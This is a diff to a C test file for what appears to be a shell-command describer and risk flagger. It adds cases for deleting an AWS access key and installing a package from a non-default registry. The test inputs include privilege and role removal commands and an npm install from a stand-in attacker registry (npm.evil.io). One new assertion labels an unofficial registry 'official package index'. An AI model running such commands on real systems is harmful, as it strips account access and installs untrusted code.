@@ -171,6 +171,8 @@ static void true_for_the_line(void)
 	     "arn:aws:iam::aws:policy/AdministratorAccess",
 	     "Takes rights away");
 	SAYS("az role assignment delete --assignee bob@x.com --role Owner", "Takes rights away");
+	NEVER_SAYS("aws iam delete-access-key --user-name bob --access-key-id AKIA1",
+		   "nothing is deleted");
 	NEVER_SAYS("az role assignment delete --assignee bob@x.com --role Owner",
 		   "Deletes the account");
 	NEVER_SAYS("sqlite3 /var/lib/app/app.db '.tables'", "database.query-overwrite");
@@ -199,6 +201,7 @@ static void names_the_source(void)
 	SAYS("pip install --extra-index-url=https://pkgs.example.com/simple foo",
 	     "system.packages-other-index");
 	SAYS("npm install --registry http://npm.evil.io lodash", "http://npm.evil.io");
+	SAYS("yarn add foo --registry http://x.io", "official package index: http://x.io");
 	NEVER_SAYS("pip install -i https://pypi.org/simple x", "system.packages-other-index");
 	NEVER_SAYS("pip install -r requirements.txt", "Removes");
 	SAYS("pip install -r requirements.txt", "listed in the file requirements.txt");
